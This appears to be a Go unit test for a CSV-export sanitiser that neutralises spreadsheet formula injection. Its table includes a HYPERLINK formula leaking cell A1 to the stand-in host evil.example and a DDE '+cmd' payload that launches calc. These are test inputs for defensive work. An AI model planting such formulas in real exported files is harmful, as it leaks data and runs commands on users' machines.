package visits

import "testing"

const formulaName = `=HYPERLINK("http://evil.example/?x="&A1,"点我")`

func TestCSVCell(t *testing.T) {
	for in, want := range map[string]string{
		formulaName:          "'" + formulaName,
		"+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
		"-2+3":               "'-2+3",
		"@SUM(A1:A2)":        "'@SUM(A1:A2)",
		"\t=1+1":             "'\t=1+1",
		"\r=1+1":             "'\r=1+1",
		"甲公司":                "甲公司",
		"-2":                 "-2",
		"+3":                 "+3",
		"+12.5%":             "+12.5%",
		"-":                  "-",
		"":                   "",
		"-.5":                "'-.5",
		"a=b":                "a=b",
	} {
		if got := CSVCell(in); got != want {
			t.Errorf("CSVCell(%q) = %q, want %q", in, got, want)
		}
	}
}
